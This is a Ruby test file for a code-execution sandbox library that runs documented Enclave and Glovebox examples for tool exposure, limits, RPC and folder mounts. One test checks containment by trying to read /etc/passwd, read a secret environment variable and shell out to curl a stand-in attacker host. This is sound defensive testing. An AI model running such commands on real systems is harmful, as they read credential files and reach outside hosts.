# frozen_string_literal: true

require_relative "helper"
require_relative "ruby_llm_standin"
require "glovebox/enclave"
require "tmpdir"

# The usage examples of the Enclave and security_box documents (the
# seeds), each with its require and class name changed (Enclave stays
# Enclave under require "glovebox/enclave"; SecurityBox becomes
# Glovebox), run embedded, with what the documents say they print
# checked. Where glovebox prints something else on purpose, the
# assertion says so and docs/ruby.md's table lists it. Plain Ruby
# objects stand in for ActiveRecord, Rails.logger and StatsD; RubyLLM is
# the stand-in in ruby_llm_standin.rb. Seed 002's example is
# RubyLLMCodeModeTest#test_readme_example.
class SeedReadmesTest < Minitest::Test
  # ---- stand-ins for the app the examples assume ----

  Ticket = Struct.new(:id, :subject, :status, :created_at)
  Tickets = Struct.new(:list) do
    def order(created_at:) = Tickets.new(list.sort_by(&:created_at).then { created_at == :desc ? _1.reverse : _1 })
    def limit(n) = list.first(n)
  end

  # What an ActiveRecord User gives the tools.
  class User
    attr_reader :name, :email, :plan, :created_at, :support_tickets

    def initialize
      @name = "Jane Doe"
      @email = "jane@example.com"
      @plan = "basic"
      @created_at = Time.utc(2026, 1, 2)
      @support_tickets = Tickets.new([1, 2, 3, 4, 5].map { |i| Ticket.new(i, "ticket #{i}", i <= 3 ? "open" : "closed", Time.utc(2026, 1, i)) })
    end

    def update!(plan:) = @plan = plan
    def reload = self
  end

  LineItem = Struct.new(:name, :qty)

  class Order
    attr_reader :id, :total, :status, :line_items

    def initialize
      @id = 7
      @total = 100.0
      @status = "shipped"
      @line_items = [LineItem.new("mug", 2)]
    end

    def apply_discount!(percent) = @total *= (100 - percent) / 100.0
    def cancel! = @status = "canceled"
    def reload = self
  end

  Log = Struct.new(:lines) do
    def error(s) = lines << [:error, s]
    def debug(s) = lines << [:debug, s]
  end

  # ---- Enclave (seed 000) ----

  class CustomerServiceTools
    def initialize(user)
      @user = user
    end

    def user_info
      { name: @user.name, email: @user.email, plan: @user.plan,
        created_at: @user.created_at.to_s }
    end

    def change_plan(new_plan)
      @user.update!(plan: new_plan)
      { success: true, plan: @user.reload.plan }
    end

    def recent_tickets
      @user.support_tickets.order(created_at: :desc).limit(10).map do |t|
        { id: t.id, subject: t.subject, status: t.status }
      end
    end
  end

  class OrderTools
    def initialize(order)
      @order = order
    end

    def details
      { id: @order.id, total: @order.total.to_f, status: @order.status,
        items: @order.line_items.map { |li| { name: li.name, qty: li.qty } } }
    end

    def apply_discount(percent)
      raise "discount must be 1-50%" unless (1..50).cover?(percent)

      @order.apply_discount!(percent)
      { success: true, new_total: @order.reload.total.to_f }
    end

    def cancel
      @order.cancel!
      { success: true }
    end
  end

  class AccountTools
    def initialize(user) = @user = user
    def account = { plan: @user.plan }
  end

  class BillingTools
    def initialize(account) = @account = account
    def balance = 12.5
  end

  class NotificationTools
    def initialize(user) = @user = user
    def notify(text) = "sent to #{@user.email}: #{text}"
  end

  class SearchTools
    def search(q) = ["result for #{q}"]
    def fetch(id) = { id: id }
    def internal_cache = {}
  end

  class WeatherTool
    def forecast(city) = "sunny in #{city}"
    def reset_cache! = nil # host calls this; sandbox must not

    private def enclave_tool_methods = %i[forecast] # only forecast is exposable
  end

  class StatusTools
    def user_status = { state: :active }
  end

  class ShopTools
    def orders = [{ id: 1, status: "shipped", total: 200.0 }, { id: 2, status: "shipped", total: 49.49 },
                  { id: 3, status: "pending", total: 10.0 }]
  end

  def teardown
    @enclaves&.each(&:close)
    Enclave.timeout = nil
    Enclave.memory_limit = nil
    Glovebox.reset_profiles!
  end

  def keep(enclave) = enclave.tap { (@enclaves ||= []) << _1 }

  def test_enclave_customer_service
    user = User.new
    enclave = keep(Enclave.new(tools: CustomerServiceTools.new(user)))
    info = enclave.eval("user_info()").value
    # Printed as {"name" => "Jane Doe", "email" => "jane@example.com", "plan" => "basic", ...}; glovebox's hashes from
    # host tools arrive with their keys sorted.
    ['"name" => "Jane Doe"', '"email" => "jane@example.com"', '"plan" => "basic"'].each { assert_includes info, _1 }
    assert_equal '{"plan" => "premium", "success" => true}', enclave.eval('change_plan("premium")').value
    assert_equal "premium", user.plan
    enclave.eval('open_tickets = recent_tickets().select { |t| t["status"] == "open" }')
    assert_equal "3", enclave.eval("open_tickets.length").value
  end

  def test_enclave_order_tools_and_errors
    enclave = keep(Enclave.new(tools: OrderTools.new(Order.new)))
    r = enclave.eval("apply_discount(99)")
    # Printed as "RuntimeError: discount must be 1-50%": the guest's class is Glovebox::RuntimeError (a
    # Glovebox::ToolError named after the host's RuntimeError).
    assert r.error.end_with?("RuntimeError: discount must be 1-50%"), r.error
    assert_includes enclave.eval("details()").value, '"status" => "shipped"'
    assert_includes enclave.eval("apply_discount(10)").value, '"new_total" => 90.0'
    assert_equal '{"success" => true}', enclave.eval("cancel()").value
  end

  def test_enclave_expose_and_narrowing
    user = User.new
    enclave = keep(Enclave.new(tools: AccountTools.new(user)))
    enclave.expose(BillingTools.new(user))
    enclave.expose(NotificationTools.new(user))
    assert_equal '[{"plan" => "basic"}, 12.5, "sent to jane@example.com: hi"]', enclave.eval('[account, balance, notify("hi")]').value

    tools = SearchTools.new
    e1 = keep(Enclave.new)
    e1.expose(tools, only: %i[search fetch]) # allowlist (recommended)
    assert_equal %i[search fetch], e1.exposed_functions
    e2 = keep(Enclave.new)
    e2.expose(tools, except: %i[internal_cache]) # denylist
    assert_equal %i[fetch search], e2.exposed_functions
    assert_raises(ArgumentError) { Enclave.new.expose(tools, only: %i[serach]) }

    e3 = keep(Enclave.new)
    e3.expose(WeatherTool.new) # sandbox sees only `forecast`
    assert_equal %i[forecast], e3.exposed_functions
  end

  def test_enclave_values
    enclave = keep(Enclave.new(tools: StatusTools.new))
    assert_equal "nil", enclave.eval("user_status[:state]").value
    assert_equal '"active"', enclave.eval('user_status["state"]').value
  end

  # The RubyLLM tool that wraps an enclave, with the (scripted) model's
  # program.
  def test_enclave_as_a_ruby_llm_tool
    console = Class.new(RubyLLM::Tool) do
      description "Run Ruby code in a sandboxed customer service console. " \
                  "Available functions: orders"
      param :code, desc: "Ruby code to evaluate"

      def execute(code:)
        Enclave::Tool.call(self.class.enclave, code: code)
      end

      class << self
        attr_reader :enclave

        def connect(enclave) = @enclave = enclave
      end
    end
    self.class.const_set(:CustomerConsole, console) unless self.class.const_defined?(:CustomerConsole, false)
    enclave = keep(Enclave.new(tools: ShopTools.new))
    CustomerConsole.connect(enclave)
    chat = RubyLLM::Chat.new
    chat.with_tool(CustomerConsole)
    RubyLLM::Chat.script << [{ name: "customer_console",
                               arguments: { "code" => 'orders().select { |o| o["status"] == "shipped" }.sum { |o| o["total"] }' } }]
    assert_equal "=> 249.49", chat.ask("What's my total spend on shipped orders?").content
  end

  def test_enclave_limits
    enclave = keep(Enclave.new(tools: ShopTools.new, timeout: 5, memory_limit: 10_000_000))
    err = assert_raises(Enclave::TimeoutError) { enclave.eval("loop {}") }
    assert_equal "execution timeout exceeded", err.message
    # Printed for "x" * 10_000_000: glovebox's memory limit counts beyond about 32 MiB the booted VM has free, so it takes
    # a larger string to reach 10 MB over it.
    err = assert_raises(Enclave::MemoryLimitError) { enclave.eval('"x" * 100_000_000') }
    assert_equal "NoMemoryError", err.message
    e2 = keep(Enclave.new(max_instructions: 1_000_000))
    err = assert_raises(Enclave::InstructionLimitError) { e2.eval("i = 0; i += 1 while true") }
    assert_equal "instruction limit exceeded", err.message
    some = Class.new { def some_tool = 1 }.new
    e3 = keep(Enclave.new(tools: some, max_tool_calls: 50))
    err = assert_raises(Enclave::ToolBudgetError) { e3.eval("1000.times { some_tool }") }
    assert_equal "tool-call count budget exceeded (max 50)", err.message
    handled = begin
      enclave.eval("loop {}")
    rescue Enclave::Error => e
      e.class # handle timeout or memory limit
    end
    assert_equal Enclave::TimeoutError, handled
    assert_equal "2", enclave.eval("1 + 1").value, "usable after a limit"
  end

  def test_enclave_defaults_hooks_and_sanitizer
    Enclave.timeout = 5
    Enclave.memory_limit = 10_000_000
    assert_equal [5, 10_000_000], Enclave.new.then { [_1.timeout, _1.memory_limit] }

    stats = Hash.new(0)
    logger = Log.new([])
    enclave = keep(Enclave.new(
                     tools: ShopTools.new,
                     before_tool_call: ->(name, _args) { stats["tool.#{name}"] += 1 },
                     after_tool_call: ->(name, _args, result) { logger.debug("#{name} -> #{result.class}") }
                   ))
    enclave.eval("orders; orders")
    assert_equal({ "tool.orders" => 2 }, stats)
    assert_equal [[:debug, "orders -> Array"]] * 2, logger.lines

    rails_logger = Log.new([])
    e2 = keep(Enclave.new(
                tools: OrderTools.new(Order.new),
                error_sanitizer: lambda { |name, exc|
                  rails_logger.error("tool #{name} failed: #{exc.full_message}")
                  "#{name} failed" # message the sandbox sees
                }
              ))
    assert_equal "Glovebox::ToolError: apply_discount failed", e2.eval("apply_discount(99)").error
    assert_match(/tool apply_discount failed: .*discount must be 1-50%/m, rails_logger.lines.first[1])
  end

  def test_enclave_what_the_code_cannot_reach
    enclave = keep(Enclave.new)
    # Enclave prints NameError for each: glovebox's guest is full CRuby, where these exist and reach nothing of the host.
    assert_match(/\AErrno::ENOENT/, enclave.eval('File.read("/etc/passwd")').error)
    assert_equal "nil", enclave.eval('ENV["SECRET_KEY_BASE"]').value
    assert_match(/\ANotImplementedError/, enclave.eval("`curl http://attacker.com`").error)
  end

  # ---- security_box (seed 003) ----

  def test_security_box_eval
    result = Glovebox.eval("puts 'hello'; 40 + 2")
    assert result.status == :ok
    assert_equal 42, result.value
    assert_equal "hello\n", result.stdout
    # Printed "> 0": glovebox counts fuel only for an eval with a fuel budget.
    assert_equal 0, result.fuel_used
    assert_operator Glovebox.eval("1", fuel: 10**10).fuel_used, :>, 0
    assert_kind_of Float, result.duration_ms
    Glovebox.warmup
    assert_equal 42, Glovebox.eval("40 + 2").value
    sandbox = Glovebox::Sandbox.new
    assert_equal 2, sandbox.eval("1 + 1").value
    assert_equal 9, sandbox.eval("3 * 3").value
  end

  def test_security_box_limits_and_errors
    assert Glovebox.eval("while true; end", timeout_ms: 500).status == :timeout
    assert Glovebox.eval("while true; end", fuel: 1_000_000).status == :fuel_exhausted
    assert Glovebox.eval(
      "a = []; loop { a << ('x' * 1024) }",
      memory_size: 128 * 1024 * 1024,
      timeout_ms: 15_000
    ).status == :memory_limit
    assert_operator Glovebox.eval('1000.times { print "x" * 1000 }', stdout_limit: 4096).stdout.bytesize, :<=, 4096
    result = Glovebox.eval("def boom; raise ArgumentError, 'boom'; end; boom")
    assert result.status == :error
    assert_equal "ArgumentError", result.error["class"]
    assert_equal "boom", result.error["message"]
    assert_equal ["sandbox:1:in 'Object#boom'", "sandbox:1:in '<main>'"], result.error["backtrace"]
  end

  def test_security_box_rpc
    mcp = Object.new
    def mcp.call_tool(server, tool, args)
      case [server, tool]
      when %w[github search] then { "items" => [{ "path" => "lib/#{args["q"].tr(" ", "_")}.rb" }] }
      when %w[github get_file] then "contents of #{args["path"]}"
      end
    end
    Glovebox.register(:agent) do |c|
      c.rpc "github.search" => ->(args) { mcp.call_tool("github", "search", args) }
      c.rpc "github.get"    => ->(args) { mcp.call_tool("github", "get_file", args) }
      c.fuel_ms 200
      c.timeout_ms 5_000 # covers guest compute + handler time
    end
    box = Glovebox.spawn(:agent)
    r = box.eval(<<~CODE)
      hits = SB.call("github.search", q: "ruby wasm").items
      SB.call("github.get", path: hits.first.path)
    CODE
    assert_equal "contents of lib/ruby_wasm.rb", r.value
    assert_equal [%w[github.search github.get], [true, true]], [r.rpcs.map { _1["name"] }, r.rpcs.map { _1["ok"] }]
    r = Glovebox.eval('SB.call("calc", a: 2)', rpcs: { "calc" => ->(args) { args["a"] * 21 } })
    assert_equal 42, r.value
  end

  def test_security_box_profiles_and_mounts
    Glovebox.register(:default) do |c|
      c.fuel 10_000_000_000
      c.timeout_ms 2_000
    end
    Glovebox.register(:lean, from: :default) do |c|
      c.fuel 2_000_000_000
      c.timeout_ms 500
    end
    box = Glovebox.spawn(:lean)
    assert_equal 42, box.eval("40 + 2").value
    assert_equal 0.1, Glovebox.spawn(:lean, timeout_ms: 100).limits[:timeout]
    assert Glovebox.spawn.is_a?(Glovebox::Sandbox)
    assert_raises(Glovebox::InvalidConfiguration) { Glovebox.register(:lean) {} }

    Dir.mktmpdir do |dir|
      Dir.mkdir(File.join(dir, "data"))
      Dir.mkdir(File.join(dir, "state"))
      File.write(File.join(dir, "data", "input.csv"), "a,b\n")
      File.write(File.join(dir, "data", "a.txt"), "A")
      Dir.chdir(dir) do
        Glovebox.register(:reader) do |c|
          c.mount    "./data" => "/data"   # read-only (host path expanded at DSL time)
          c.mount_rw "./state" => "/state" # opt-in writable
        end
        box = Glovebox.spawn(:reader)
        assert_equal "a,b\n", box.eval('File.read("/data/input.csv")').value
        assert box.eval('File.write("/state/last.txt", Time.now.to_i)').status == :ok
        assert_match(/\A\d+\z/, File.read(File.join(dir, "state", "last.txt")))
        r = Glovebox.eval('File.read("/data/a.txt")', mounts: [{ host: "./data", guest: "/data", mode: :read_only }])
        assert_equal "A", r.value
      end
    end
  end

  def test_security_box_configuration_pools_and_fuel_ms
    config = Glovebox::Configuration.build(
      fuel: 10_000_000_000,             # deterministic CPU budget
      fuel_ms: nil,                     # or a millisecond-based budget (mutually exclusive with fuel)
      timeout_ms: 2_000,                # wall-clock limit (epoch interruption)
      memory_size: 512 * 1024 * 1024,   # wasm linear memory limit
      stdout_limit: 1 << 20,            # stdout capture capacity in bytes
      stderr_limit: 1 << 16,            # stderr capture capacity in bytes
      epoch_interval_ms: 25,            # epoch timer granularity
      env: { "LANG" => "C" },           # guest environment (empty by default)
      mounts: [],                       # host-folder mounts (see "Folder mounts")
      rpcs: {}                          # name => callable host RPC handlers
    )
    lean = config.with(timeout_ms: 500, fuel: 5_000_000)
    sandbox = Glovebox::Sandbox.new(lean)
    assert_equal "C", sandbox.eval('ENV["LANG"]').value
    assert_equal config.fingerprint, Glovebox::Configuration.build(**config.to_h).fingerprint

    Glovebox.register(:lean) { |c| c.timeout_ms 5_000 }
    pool = Glovebox.pool(:lean, size: 4)
    assert_equal 42, pool.eval("40 + 2").value
    assert_equal 2, pool.checkout { |sb| sb.eval("1 + 1") }.value
    assert_equal %i[size created evals total_ms avg_ms], pool.metrics.keys.first(5)
    pool.shutdown
    rpool = Glovebox.ractor_pool(:lean, size: 4)
    assert_equal 42, rpool.eval("40 + 2").value
    rpool.shutdown

    config = Glovebox::Configuration.build(fuel_ms: 100) # about 100 ms of compute
    assert Glovebox.spawn(config).eval("i = 0; while i < 5_000_000; i += 1; end").status == :fuel_exhausted
  end
end
